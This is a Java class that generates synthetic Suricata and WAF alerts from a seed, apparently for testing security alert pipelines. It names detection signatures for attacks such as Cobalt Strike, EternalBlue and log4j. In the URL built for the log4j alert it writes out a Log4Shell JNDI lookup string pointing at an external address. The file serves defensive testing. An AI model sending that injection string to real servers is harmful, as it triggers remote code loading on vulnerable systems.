package io.protect.tools.launcher;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generates realistic alerts, reproducibly from a seed: Suricata EVE alerts (the shape Suricata 7
 * writes, with Emerging-Threats-style signatures, ATT&CK metadata, flow and app-layer fields) and
 * alerts of a generic JSON shape. Nothing is copied from captured data; addresses mix internal
 * ranges, documentation ranges (RFC 5737) and well-known public hosts so that geo lookups and
 * threat-intel matches both show.
 */
public final class SampleGenerator {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final DateTimeFormatter EVE_TIME =
            DateTimeFormatter.ofPattern("uuuu-MM-dd'T'HH:mm:ss.SSSSSSxx").withZone(ZoneOffset.UTC);

    /** A signature as a rule would carry it. */
    record Signature(long id, int rev, String text, String category, int severity, String appProto,
            int destPort, String tacticId, String tacticName, String techniqueId, String techniqueName) {
    }

    private static final List<Signature> SIGNATURES = List.of(
            new Signature(2_001_219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "ssh", 22,
                    "TA0043", "Reconnaissance", "T1595", "Active_Scanning"),
            new Signature(2_009_582, 3, "ET SCAN NMAP -sS window 1024", "Attempted Information Leak", 2, null, 443,
                    "TA0043", "Reconnaissance", "T1595", "Active_Scanning"),
            new Signature(2_024_897, 4, "ET USER_AGENTS Go HTTP Client User-Agent", "Misc activity", 3, "http", 80,
                    null, null, null, null),
            new Signature(2_027_865, 3, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 3, "dns", 53,
                    null, null, null, null),
            new Signature(2_030_358, 2, "ET MALWARE Cobalt Strike Beacon Observed", "A Network Trojan was detected", 1, "http", 443,
                    "TA0011", "Command_And_Control", "T1071", "Application_Layer_Protocol"),
            new Signature(2_018_959, 4, "ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation",
                    2, "http", 80, "TA0002", "Execution", "T1204", "User_Execution"),
            new Signature(2_013_028, 7, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2, "http", 80,
                    null, null, null, null),
            new Signature(2_034_647, 2, "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain",
                    1, "http", 8080, "TA0001", "Initial_Access", "T1190", "Exploit_Public_Facing_Application"),
            new Signature(2_011_716, 5, "ET SCAN Sipvicious User-Agent Detected (friendly-scanner)", "Attempted Information Leak",
                    2, null, 5060, "TA0043", "Reconnaissance", "T1595", "Active_Scanning"),
            new Signature(2_023_753, 3, "ET TROJAN Possible Metasploit Payload Common Construct Bind_API (from server)",
                    "A Network Trojan was detected", 1, null, 4444, "TA0011", "Command_And_Control", "T1095",
                    "Non-Application_Layer_Protocol"),
            new Signature(2_210_045, 2, "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode", 3, null, 443,
                    null, null, null, null),
            new Signature(2_025_275, 2, "ET EXPLOIT Possible SMBv1 Remote Code Execution (EternalBlue)",
                    "Attempted Administrator Privilege Gain", 1, "smb", 445, "TA0008", "Lateral_Movement", "T1210",
                    "Exploitation_of_Remote_Services"));

    /** Public hosts that geolocate well and documentation-range hosts that threat-intel feeds name. */
    private static final List<String> EXTERNAL = List.of("45.33.32.156", "185.220.101.34", "91.189.91.39",
            "104.16.132.229", "151.101.1.69", "203.0.113.66", "198.51.100.23", "193.0.14.129", "139.162.184.71",
            "2a01:4f8:c17:1a2b::2");
    private static final List<String> HOSTNAMES = List.of("updates.example.net", "cdn.example.org", "login.example.com",
            "files.example.cloud", "api.example.io");
    private static final List<String> AGENTS = List.of("Go-http-client/1.1", "curl/8.5.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "python-requests/2.31.0");

    private final Random random;
    private final Instant start;

    public SampleGenerator(long seed, Instant start) {
        this.random = new Random(seed);
        this.start = start;
    }

    /** {@code count} alerts: about four in five Suricata, the rest generic. */
    public List<ObjectNode> alerts(int count) {
        List<ObjectNode> out = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            out.add(random.nextInt(5) < 4 ? suricata(i) : generic(i));
        }
        return out;
    }

    ObjectNode suricata(int i) {
        Signature sig = SIGNATURES.get(random.nextInt(SIGNATURES.size()));
        boolean inbound = random.nextBoolean();
        String internal = "10." + (1 + random.nextInt(3)) + "." + random.nextInt(8) + "." + (10 + random.nextInt(200));
        String external = EXTERNAL.get(random.nextInt(EXTERNAL.size()));
        String src = inbound ? external : internal;
        String dst = inbound ? internal : external;
        int ephemeral = 32768 + random.nextInt(28000);
        Instant time = start.plusMillis(i * 37L + random.nextInt(30));
        ObjectNode a = JSON.createObjectNode();
        a.put("timestamp", EVE_TIME.format(time));
        a.put("flow_id", Math.abs(random.nextLong() % 2_251_799_813_685_248L));
        a.put("in_iface", "eth1");
        a.put("event_type", "alert");
        a.put("src_ip", src);
        a.put("src_port", ephemeral);
        a.put("dest_ip", dst);
        a.put("dest_port", sig.destPort());
        a.put("proto", sig.destPort() == 53 || sig.destPort() == 5060 ? "UDP" : "TCP");
        a.put("community_id", "1:" + base64(20));
        ObjectNode alert = a.putObject("alert");
        alert.put("action", "allowed");
        alert.put("gid", 1);
        alert.put("signature_id", sig.id());
        alert.put("rev", sig.rev());
        alert.put("signature", sig.text());
        alert.put("category", sig.category());
        alert.put("severity", sig.severity());
        ObjectNode metadata = alert.putObject("metadata");
        metadata.putArray("created_at").add("20" + (15 + random.nextInt(9)) + "_0" + (1 + random.nextInt(9)) + "_1" + random.nextInt(9));
        metadata.putArray("signature_severity").add(sig.severity() == 1 ? "Major" : sig.severity() == 2 ? "Minor" : "Informational");
        if (sig.techniqueId() != null) {
            metadata.putArray("mitre_tactic_id").add(sig.tacticId());
            metadata.putArray("mitre_tactic_name").add(sig.tacticName());
            metadata.putArray("mitre_technique_id").add(sig.techniqueId());
            metadata.putArray("mitre_technique_name").add(sig.techniqueName());
        }
        if (sig.appProto() != null) {
            a.put("app_proto", sig.appProto());
        }
        if ("http".equals(sig.appProto())) {
            ObjectNode http = a.putObject("http");
            http.put("hostname", HOSTNAMES.get(random.nextInt(HOSTNAMES.size())));
            http.put("url", "/" + (sig.id() == 2_034_647 ? "?x=${jndi:ldap://" + external + "/a}" : "download/" + base64(6)));
            http.put("http_user_agent", AGENTS.get(random.nextInt(AGENTS.size())));
            http.put("http_method", "GET");
            http.put("protocol", "HTTP/1.1");
            http.put("status", 200);
            http.put("length", random.nextInt(90_000));
        }
        ObjectNode flow = a.putObject("flow");
        flow.put("pkts_toserver", 1 + random.nextInt(40));
        flow.put("pkts_toclient", random.nextInt(40));
        flow.put("bytes_toserver", 60 + random.nextInt(20_000));
        flow.put("bytes_toclient", random.nextInt(200_000));
        flow.put("start", EVE_TIME.format(time.minusMillis(random.nextInt(4000))));
        return a;
    }

    ObjectNode generic(int i) {
        Instant time = start.plusMillis(i * 37L + random.nextInt(30));
        ObjectNode a = JSON.createObjectNode();
        String[] rules = {"Blocked SQL injection attempt", "Excessive failed logins", "Known bad user agent",
            "Path traversal attempt", "Request from anonymising proxy"};
        String[] severities = {"low", "medium", "high", "critical"};
        a.put("timestamp", time.toString());
        a.put("product", "edge-waf");
        a.put("vendor", "ExampleSec");
        a.put("rule_id", "WAF-" + (1000 + random.nextInt(40)));
        a.put("message", rules[random.nextInt(rules.length)]);
        a.put("severity", severities[random.nextInt(severities.length)]);
        a.put("source_ip", EXTERNAL.get(random.nextInt(EXTERNAL.size())));
        a.put("destination_ip", "10.2." + random.nextInt(8) + "." + (10 + random.nextInt(200)));
        a.put("destination_port", 443);
        a.put("http_host", HOSTNAMES.get(random.nextInt(HOSTNAMES.size())));
        ArrayNode tags = a.putArray("tags");
        tags.add("waf").add(random.nextBoolean() ? "blocked" : "logged");
        return a;
    }

    private String base64(int bytes) {
        byte[] b = new byte[bytes];
        random.nextBytes(b);
        return java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(b);
    }
}
